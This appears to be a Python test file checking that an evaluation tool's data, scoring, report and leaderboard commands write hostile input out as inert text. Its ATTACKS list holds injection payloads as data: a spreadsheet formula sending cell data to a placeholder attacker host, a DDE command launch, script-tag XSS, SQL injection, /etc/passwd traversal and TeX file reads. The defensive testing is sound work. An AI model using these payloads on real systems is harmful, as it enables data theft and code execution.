"""A data file whose every text attacks what shows it, through every command that writes it somewhere."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from tests.commands import run
from tests.data.rows import question
from tests.report.books import is_text_and_numbers

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("closed_machine")]

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1\x1b[2J\x1b]0;pwned\x07",
    "\t=1+1",
    "-2+3\r\n=4",
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "\u202e\u2066evil\u2069",
    "{{7*7}}${7*7}",
    "a\x0b\x0cb\ufeff",
    "]]><!--",
    "' OR 1=1 --",
    "../../../etc/passwd",
    "%s%n{0}{x}",
    "=1+1|\\input{/etc/passwd}$x$",
    "_x000D_=1",
    "＝1+1",
    '"quoted"\n=1',
)
FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"[-+]?[0-9.]+(?:e[-+]?[0-9]+)?|-")


@pytest.fixture
def files(tmp_path: Path) -> tuple[Path, Path]:
    rows = [
        question(
            f"{text} {at}",
            question=f"{text} what?",
            A=f"{text} a",
            B=f"{text} b",
            C="",
            answer="A",
            modality=text,
            severity=text,
            source=text,
            scope=text,
            difficulty=text,
            degradation=text,
            question_type=text,
        )
        for at, text in enumerate(ATTACKS)
    ]
    data = tmp_path / "=evil_test.tsv"
    with data.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, [*rows[0], "=1+1 \x1b[31m"], delimiter="\t", quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(rows)
    predictions = tmp_path / "=model_=evil.json"
    replies = [{**row, "prediction": text} for row, text in zip(rows, ATTACKS, strict=True)]
    predictions.write_text(json.dumps(replies), encoding="utf-8")
    return data, predictions


def check_written(folder: Path) -> set[str]:
    """See that no file that was written runs anything; their suffixes."""
    written = [path for path in folder.rglob("*") if path.is_file()]
    for path in written:
        if path.suffix == ".xlsx":
            assert is_text_and_numbers(path), path
        elif path.suffix in (".csv", ".tsv"):
            with path.open(encoding="utf-8-sig", newline="") as source:
                cells = {
                    cell for row in csv.reader(source, delimiter="," if path.suffix == ".csv" else "\t") for cell in row
                }
            assert {cell for cell in cells if FORMULA.match(cell) and not NUMBER.fullmatch(cell)} == set(), path
        elif path.suffix in (".html", ".md", ".tex", ".txt", ".svg"):
            text = path.read_text(encoding="utf-8")
            assert "\x1b" not in text, path
            assert "<script>alert(1)" not in text, path
            assert "<img src=x onerror" not in text, path
            assert path.suffix != ".tex" or "\\input{/etc" not in text, path
    return {path.suffix for path in written}


def test_what_is_written_from_hostile_data_is_text(
    capsys, monkeypatch, tmp_path: Path, files: tuple[Path, Path]
) -> None:
    monkeypatch.setenv("LMUData", str(tmp_path / "lmu"))
    data, predictions = files
    before = {path: path.read_bytes() for path in files}
    out = tmp_path / "out"
    commands = [
        ("data", "info", data, "--images"),
        ("data", "check", data),
        ("data", "export", data, "--to", out / "export"),
        ("score", predictions, "--model", ATTACKS[0], "--data", data, "--out", out / "with"),
        ("score", predictions, "--model", ATTACKS[2], "--out", out / "alone"),
        ("report", out / "with", out / "alone", "--out", out / "report"),
        ("compare", out / "with", out / "alone", "--out", out / "compared"),
        ("leaderboard", "add", out / "with", "--board", out / "board"),
        ("leaderboard", "export", out / "with", "--openvlm", out / "vlm.json", "--csv", out / "vlm.csv"),
    ]
    for words in commands:
        code, said, err = run(capsys, *words)
        assert code == 0, (words, err)
        assert not re.search("[\x00-\x08\x0b-\x1f\u202e]", said + err), (words, said, err)
    assert {".xlsx", ".csv", ".html", ".md", ".json", ".jsonl", ".parquet"} <= check_written(out)
    assert {path: path.read_bytes() for path in files} == before
    assert [path for path in tmp_path.rglob("*") if path.suffix in (".tmp", ".part")] == []
